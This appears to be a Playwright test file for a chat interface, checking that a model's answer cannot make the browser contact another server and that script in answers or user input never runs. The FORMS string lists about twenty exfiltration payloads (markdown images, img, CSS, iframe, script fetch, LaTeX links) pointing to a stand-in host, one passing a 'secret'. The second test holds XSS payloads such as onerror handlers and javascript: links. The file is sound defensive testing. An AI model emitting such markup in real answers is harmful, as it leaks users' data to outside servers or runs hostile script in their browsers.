"""What a model may write, and what must not come of it in a browser."""

from playwright.sync_api import expect

# Markers of an answer that was misled: each tries to make the browser tell another server a secret
ELSEWHERE = "https://elsewhere.example"
FORMS = f"""\
![inline]({ELSEWHERE}/1.png?d=secret)

![reference][picture] and [![linked]({ELSEWHERE}/2.png)]({ELSEWHERE}/page)

<img src="{ELSEWHERE}/3.png">

<img srcset="{ELSEWHERE}/4.png 2x">

<div style="background: url({ELSEWHERE}/5.png)">style</div>

<svg><image href="{ELSEWHERE}/6.png"/></svg>

<link rel="preload" as="image" href="{ELSEWHERE}/7.png">

![scheme](//elsewhere.example/8.png)

{ELSEWHERE}/9

<link rel="icon" href="{ELSEWHERE}/10.ico">

<video poster="{ELSEWHERE}/11.png"></video><audio src="{ELSEWHERE}/12.mp3"></audio>

<iframe src="{ELSEWHERE}/13"></iframe><object data="{ELSEWHERE}/14"></object>

<style>@import "{ELSEWHERE}/15.css";</style><meta http-equiv="refresh" content="0; url={ELSEWHERE}/16">

<script src="{ELSEWHERE}/17.js"></script><script>fetch("{ELSEWHERE}/18")</script>

$$ \\href{{{ELSEWHERE}/19}}{{x}} \\includegraphics{{{ELSEWHERE}/20.png}} $$

[picture]: {ELSEWHERE}/21.png

The end of it.
"""


def test_an_answer_makes_the_browser_ask_no_other_server(chat, model, site):
    asked: list[str] = []
    chat.page.context.on("request", lambda request: asked.append(request.url))
    model.says(FORMS)
    chat.ask("Show me pictures")
    chat.reload().live()
    expect(chat.body).to_contain_text("The end of it.")
    expect(chat.body.get_by_role("link", name="inline")).to_contain_text("elsewhere.example")
    chat.more(chat.answer, "Report")
    expect(chat.page.get_by_role("dialog")).to_be_visible()
    chat.page.goto(chat.page.url + "older/")
    elsewhere = [
        url for url in asked if not url.startswith((site.origin, "data:", site.origin.replace("http", "ws")))
    ]
    assert asked and elsewhere == []


def test_no_script_or_style_of_an_answer_runs(chat, model):
    model.says(
        "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">\n\n"
        "[click](javascript:document.title='owned') <a href=\"javascript:alert(1)\">x</a>\n\n"
        "```html\n<script>document.title='owned'</script>\n```\n"
    )
    chat.ask("<img src=x onerror=alert(1)><b>bold</b>")
    expect(chat.said).to_have_text("<img src=x onerror=alert(1)><b>bold</b>")
    assert chat.page.locator("a[href^='javascript']").count() == 0
    assert chat.body.locator("script, img, [onerror]").count() == 0
    assert "owned" not in chat.page.title()
